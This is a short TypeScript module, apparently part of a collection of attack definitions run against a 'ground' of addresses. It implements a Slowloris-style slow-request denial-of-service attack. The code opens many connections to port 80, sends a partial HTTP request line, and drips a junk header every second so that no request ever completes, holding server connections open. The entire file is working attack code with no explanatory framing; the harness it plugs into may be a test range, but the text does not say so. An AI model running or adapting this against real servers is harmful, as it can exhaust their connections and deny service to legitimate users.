// Requests that never end: a header now and then.
import type { Attack } from '../attack.ts';
import { keepOpen } from '../connections.ts';

export const slowRequests: Attack = {
  name: 'slow-requests',
  what: 'requests that get a header a second, and never end',
  run: (ground, count) =>
    keepOpen(
      ground,
      {
        ...{ port: 80, from: ground.addresses.slice(30, 40), each: 16, burst: 10, pauseMs: 200 },
        onOpen: (socket) => {
          socket.resume();
          socket.write('GET /boot/kernel HTTP/1.1\r\n');
          const dripping = setInterval(() => socket.write('X: y\r\n'), 1000);
          socket.once('close', () => clearInterval(dripping));
        },
      },
      count,
    ),
};
